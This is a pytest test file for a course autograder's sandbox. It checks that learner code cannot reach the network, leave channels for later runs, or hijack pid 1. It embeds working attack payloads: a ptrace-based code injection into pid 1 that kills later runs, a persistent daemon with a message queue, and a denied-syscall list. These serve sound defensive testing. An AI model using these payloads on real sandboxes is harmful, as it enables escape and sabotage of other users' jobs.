"""Nothing a learner's run does outlives it or reaches a later run (course_admin/sandbox/confine.py, zygote.py).

Every learner process runs under a seccomp filter loaded before any learner code, the warm way and the cold
way alike; under the warm sandbox each run has user, network and IPC namespaces of its own, and the fork
server is the sandbox's undumpable pid 1. Planted: the attacks below, each run once against a wrong
sandbox (children without the filter, sharing the sandbox's namespaces, the zygote beside bubblewrap's own
init as before, a filter with no rule on the network), where it works, so these tests can fail; and against
the real one, where the next run sees nothing and nothing reaches a listener of the test's. Needs
bubblewrap; the syscall numbers are x86_64's.
"""
from __future__ import annotations

import csv
import os
import platform
import sys

import pytest

from course_lib.provided.layout import LAYOUT

from .. import course_cli
from ..sandbox_runs import (CLEAN, SHARED_NAMESPACES, UNFILTERED, clean_view, listening, planted_zygote, run,  # noqa: F401
                            sends_out, warm_cls)

REPO = LAYOUT.root
pytestmark = [
    pytest.mark.skipif(not (REPO / "solutions" / "course_admin" / "sandbox" / "confine.py").is_file(),
                       reason="the grader ships only with the instructor's repository"),
    pytest.mark.skipif(platform.machine() != "x86_64", reason="the planted attacks use x86_64 syscall numbers"),
    pytest.mark.grading,
]

DENIED = {"ptrace", "process_vm_readv", "pidfd_open", "kcmp", "add_key", "keyctl", "mq_open", "unshare", "setns",
          "mount", "userfaultfd", "perf_event_open", "bpf", "io_uring_setup", "clone_newuser",
          "fallocate"}  # EPERM; clone3 ENOSYS


def _confined(tried: dict) -> None:
    assert {k: v for k, v in tried.items() if v != 1} == {"clone3": 38}, tried  # 1 EPERM, 38 ENOSYS


def test_the_filter_denies_every_listed_call_warm(warm_cls):
    result, tried, log = run(warm_cls(), "", probe="tried")
    assert result.returncode == 0 and tried is not None, log
    assert set(tried) == DENIED | {"clone3"}
    _confined(tried)


@pytest.mark.parametrize("isolation", ["bwrap", "rlimits"])
def test_the_filter_denies_every_listed_call_cold(isolation, monkeypatch):
    """The cold way: a new bwrap per run, or the rlimits fallback (run here with the grader's own uid, as a
    grader that is not root runs it: as root, an interpreter under /root cannot run as another uid)."""
    from course_admin.sandbox import procs

    if isolation == "bwrap" and not procs.bwrap_works()[0]:
        pytest.skip("bubblewrap does not work here")
    monkeypatch.setattr(procs, "sandbox_uid", lambda: None)
    result, tried, log = run(None, "", probe="tried", isolation=isolation)
    assert result.returncode == 0 and tried is not None, log
    _confined(tried)


def test_planted_unfiltered_child_makes_the_calls(warm_cls, tmp_path):
    result, tried, log = run(planted_zygote(warm_cls, tmp_path, UNFILTERED), "", probe="tried")
    assert result.returncode == 0 and tried is not None, log
    assert tried["unshare"] == tried["add_key"] == tried["mq_open"] == tried["keyctl"] == 0
    assert tried["fallocate"] != 1  # not denied: it worked, or failed for its own reason (fd 1 a pipe)
    assert tried["clone3"] != 38


# What sends_out's net() answers under the filter: every family refused but AF_UNIX (the kernel's own
# answers where unfiltered: 0 sent, 111 refused, 101 no route, 95 no socketpair of AF_INET)
NO_NETWORK = {"inet": 1, "udp": 1, "inet6": 1, "netlink": 1, "packet": 1, "socketpair_inet": 1, "unix_pair": 0}  # 1: EPERM


@pytest.fixture
def listener():
    """(the harm, sending to the test's listeners; received(): what reached them)."""
    with listening() as (tcp, udp, received):
        yield sends_out(tcp, udp), received


@pytest.mark.parametrize("isolation", ["warm", "bwrap", "rlimits"])
def test_a_run_cannot_open_a_network_socket(isolation, listener, monkeypatch, request):
    """socket and socketpair of any family but AF_UNIX fail with EPERM under every isolation, the rlimits one
    (the container confinement on Gradescope, where the network is open) included: nothing reaches the
    test's listeners. An AF_UNIX socketpair and a DataLoader worker still work."""
    from course_admin.sandbox import procs

    harm, received = listener
    if isolation == "rlimits":
        monkeypatch.setattr(procs, "sandbox_uid", lambda: None)  # as in test_the_filter_denies_every_listed_call_cold
    elif not procs.bwrap_works()[0]:
        pytest.skip("bubblewrap does not work here")
    w = request.getfixturevalue("warm_cls")() if isolation == "warm" else None
    result, net, log = run(w, harm, probe="net", isolation="bwrap" if w else isolation)
    assert result.returncode == 0 and net is not None, log
    # under bubblewrap /dev/shm is read-only: no multiprocessing lock, so no worker, filter or not (EROFS)
    assert net.pop("dataloader") == (0 if isolation == "rlimits" else 30) and net == NO_NETWORK, net
    assert received() == []


def test_planted_filter_without_the_network_rule_lets_a_run_send_out(listener, monkeypatch):
    """Planted: the container confinement with the filter as it was (no rule on socket): the run sends to the
    test's listeners, over TCP and UDP."""
    from course_admin.sandbox import confine, procs

    harm, received = listener
    monkeypatch.setattr(procs, "sandbox_uid", lambda: None)
    monkeypatch.setattr(confine, "compile_filter", lambda: confine.build_filter(confine.DENIED))
    result, net, log = run(None, harm, probe="net", isolation="rlimits")
    assert result.returncode == 0 and net is not None, log
    assert net["inet"] == net["udp"] == net["netlink"] == 0 and net["socketpair_inet"] != 1, net
    assert sorted(received()) == [b"STOLEN", b"STOLEN"]


# A daemon serving a secret on an abstract unix socket, and a POSIX message queue with a message in it.
LEAVES_CHANNELS = '''
import ctypes, os, socket, time
if os.fork() == 0:
    os.setsid()
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.bind("\\0left_by_a")
        server.listen(8)
        while True:
            conn, _ = server.accept()
            conn.sendall(b"secret")
            conn.close()
_q = ctypes.CDLL(None).syscall(240, b"left_by_a", 0o100 | 1, 0o600, None)  # mq_open O_CREAT|O_WRONLY
if _q >= 0:
    ctypes.CDLL(None).syscall(242, _q, b"secret", 6, 0, None)  # mq_timedsend
time.sleep(0.2)
'''
NO_SWEEP = ('def sweep(base: Baseline) -> str:\n', 'def sweep(base: Baseline) -> str:\n    return ""\n')


def test_channels_a_run_leaves_are_not_there_for_the_next(warm_cls):
    w = warm_cls()
    result, _, log = run(w, LEAVES_CHANNELS)
    assert result.returncode == 0, log
    result, seen, log = run(w, "")
    assert result.returncode == 0 and clean_view(seen) == CLEAN, log
    assert w.starts == 1


def test_own_namespaces_hide_channels_even_from_a_zygote_that_does_not_sweep(warm_cls, tmp_path):
    """Defence in depth: no filter and no sweep, yet the daemon's socket and the queue are in the first run's
    namespaces, which the next run does not share."""
    w = planted_zygote(warm_cls, tmp_path, UNFILTERED, NO_SWEEP)
    _, first, _ = run(w, LEAVES_CHANNELS)
    result, seen, log = run(w, "")
    assert result.returncode == 0 and seen["channels"] == 0 and seen["others"] >= 1, log
    # the daemon keeps the first run's namespaces alive, so their numbers cannot have been reused
    assert first["net_ns"] != seen["net_ns"] and first["ipc_ns"] != seen["ipc_ns"]


def test_planted_zygote_with_shared_namespaces_leaks_the_channels(warm_cls, tmp_path):
    """As the issue reproduced: the queue outlives its run in a shared IPC namespace; with no sweep, so does
    the socket's daemon."""
    w = planted_zygote(warm_cls, tmp_path, UNFILTERED, SHARED_NAMESPACES, NO_SWEEP)
    _, first, _ = run(w, LEAVES_CHANNELS)
    result, seen, log = run(w, "")
    assert result.returncode == 0 and seen["channels"] == 2, log
    assert first["net_ns"] == seen["net_ns"] and first["ipc_ns"] == seen["ipc_ns"]


# Seize pid 1, write an execve into its code, and let it go: pid 1 becomes an agent that kills every later
# run (the sweep's kill(-1) spares pid 1). What the issue reproduced on bubblewrap's own init.
TAKES_PID_1 = '''
import ctypes, os, sys
AGENT = """
import os, time
while True:
    for name in os.listdir("/proc"):
        if name.isdigit() and name != "1":
            try:
                ppid = int(open(f"/proc/{name}/stat", "rb").read().rsplit(b")", 1)[1].split()[1])
                if ppid != 1:
                    os.kill(int(name), 9)
            except (OSError, ValueError):
                pass
    try:
        os.waitpid(-1, os.WNOHANG)
    except ChildProcessError:
        pass
    time.sleep(0.01)
"""
_libc = ctypes.CDLL(None, use_errno=True)
_libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
_libc.ptrace.restype = ctypes.c_long
if _libc.ptrace(0x4206, 1, None, None) == 0:  # PTRACE_SEIZE
    _libc.ptrace(0x4207, 1, None, None)  # PTRACE_INTERRUPT
    os.waitpid(1, 0x40000000)  # __WALL
    regs = (ctypes.c_ulonglong * 27)()  # user_regs_struct: rax 10, rdx 12, rsi 13, rdi 14, orig_rax 15, rip 16, rsp 19
    _libc.ptrace(12, 1, None, ctypes.byref(regs))  # PTRACE_GETREGS
    base = (regs[19] - 8192) & ~0xF
    words, blob = [], b""
    for arg in (sys.executable, "-I", "-S", "-c", AGENT):
        words.append(base + len(blob))
        blob += arg.encode() + b"\\0"
    array = base + ((len(blob) + 15) & ~15)
    blob = blob.ljust(array - base, b"\\0") + b"".join(w.to_bytes(8, "little") for w in words) + bytes(8)
    with open("/proc/1/mem", "r+b", buffering=0) as mem:
        mem.seek(base)
        mem.write(blob)
        mem.seek(regs[16])
        mem.write(b"\\x0f\\x05")  # syscall
    regs[10], regs[14], regs[13], regs[12], regs[15] = 59, words[0], array, 0, 2**64 - 1  # execve(...)
    _libc.ptrace(13, 1, None, ctypes.byref(regs))  # PTRACE_SETREGS
    _libc.ptrace(17, 1, None, None)  # PTRACE_DETACH: pid 1 runs the execve
'''


def test_a_run_cannot_take_over_pid_1(warm_cls):
    w = warm_cls()
    run(w, TAKES_PID_1)
    for _ in range(2):
        result, seen, log = run(w, "")
        assert result.returncode == 0 and clean_view(seen) == CLEAN, log
    assert w.starts == 1


def test_planted_sandbox_as_before_is_taken_over(warm_cls, tmp_path):
    """Planted: bubblewrap's init as pid 1 beside the zygote, children without the filter (the sandbox as it
    was). The agent kills every later run, and the sweep does not see it."""
    from course_admin.sandbox import warm

    class AsBefore(warm.WarmSandbox):
        PID_1 = False

    w = planted_zygote(lambda **kw: warm_cls(cls=AsBefore, **kw), tmp_path, UNFILTERED, SHARED_NAMESPACES)
    run(w, TAKES_PID_1)
    result, seen, log = run(w, "")
    assert result.returncode == -9 and seen is None, (result, log)


# ---------------------------------------------------------------- through `course grade`
FRIEND = '''
import contextlib, ctypes, socket
_seen = ctypes.CDLL(None).syscall(240, b"left_by_a", 0, 0, None) >= 0  # the attacker's queue
with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as _sock, contextlib.suppress(OSError):
    _sock.connect("\\0left_by_a")
    _seen = True
if _seen:
    raise RuntimeError("found what an earlier learner left")
'''


@pytest.mark.slow
@pytest.mark.parametrize("jobs", [1, 2])
def test_learners_graded_after_an_attacker_keep_full_marks(tmp_path, jobs):
    """Chapter 02 as its own assignment: an attacker (takes pid 1, leaves a socket server and a queue), then
    a friend who looks for what it left and loses every point if found, then correct learners. Everyone but
    the attacker gets every point, public and hidden."""
    from course_admin.grading import plan
    from course_admin.sandbox import procs
    from course_lib.provided import chapters

    if not procs.bwrap_works()[0]:
        pytest.skip("bubblewrap does not work here")
    reference = (LAYOUT.reference / "attention.py").read_text()
    future = "from __future__ import annotations\n"
    learners = {"a_attacker": TAKES_PID_1 + LEAVES_CHANNELS, "b_friend": FRIEND, "c_right": "", "d_right": "",
                "e_right": "", "f_right": ""}
    for name, code in learners.items():
        package = tmp_path / "subs" / f"{name}_ch02" / "course_lib"
        package.mkdir(parents=True)
        (package / "attention.py").write_text(reference.replace(future, future + code, 1))
    out = tmp_path / "out"
    proc = course_cli.run(["grade", str(tmp_path / "subs"), "--out",
                           str(out), "--no-notebooks", "--jobs", str(jobs), "--quiet"], cwd=REPO, capture_output=True,
                          text=True, timeout=600, env={**os.environ, "COURSE_GRADE_WARM": "1"})
    assert proc.returncode == 0, proc.stdout + proc.stderr
    with open(out / "grades.csv", newline="", encoding="utf-8") as fh:
        rows = [r for r in csv.DictReader(fh) if r["kind"] == "course_lib"]
    scores: dict[str, list[tuple[str, float]]] = {}
    for r in rows:
        scores.setdefault(r["learner"].removesuffix("_ch02"), []).append((r["component"], float(r["points"])))
    full = [(c.name, c.points) for c in chapters.load_spec("02").CASES] + \
        [(f"hidden case {i}", c.points) for i, c in enumerate(plan.hidden_cases("02"), 1)]
    assert set(scores) == set(learners)
    for name in learners:
        if name != "a_attacker":
            assert scores[name] == full, (name, [r["message"] for r in rows if r["learner"].startswith(name)])
    assert {r["isolation"] for r in rows} == {"bwrap", "none"}  # none: "built from scratch" reads the source


def test_without_a_filter_the_warm_sandbox_refuses_and_the_cold_way_runs(monkeypatch):
    """No filter can be set here (libseccomp missing, planted): the warm sandbox refuses to start, which makes
    `course grade` say so and grade the cold way (warm.broken), and a cold run has no filter to load."""
    from course_admin.sandbox import cold, confine, procs, warm

    if not procs.bwrap_works()[0]:
        pytest.skip("bubblewrap does not work here")
    monkeypatch.setattr(confine, "available", lambda: (False, "no seccomp filter can be compiled here (planted)"))
    assert not warm.enabled("bwrap")  # the grading runs go the cold way (course grade's banner says why)
    w = warm.WarmSandbox()
    try:
        with pytest.raises(warm.ZygoteError, match="planted"):  # and a sandbox made by hand refuses to start
            w._start(cold.Limits())
    finally:
        w.close()
    result, tried, log = run(None, "", probe="tried", isolation="bwrap")
    assert result.returncode == 0 and tried["unshare"] != 1 and tried["mq_open"] == 0, log  # unconfined


def test_course_grade_says_when_no_filter_can_be_set(monkeypatch, capsys, tmp_path):
    from course_admin.grading import grade
    from course_admin.sandbox import confine, procs

    if not procs.bwrap_works()[0]:
        pytest.skip("bubblewrap does not work here")
    args, _, _ = grade.parse_args([str(tmp_path), "--out", str(tmp_path / "out")])
    assert grade.choose_isolation(args) == "bwrap"
    assert "seccomp" not in capsys.readouterr().err
    monkeypatch.setattr(confine, "available", lambda: (False, "no seccomp filter can be compiled here (planted)"))
    assert grade.choose_isolation(args) == "bwrap"
    err = capsys.readouterr().err
    assert "(planted)" in err and "without the seccomp filter" in err and "cold way" in err
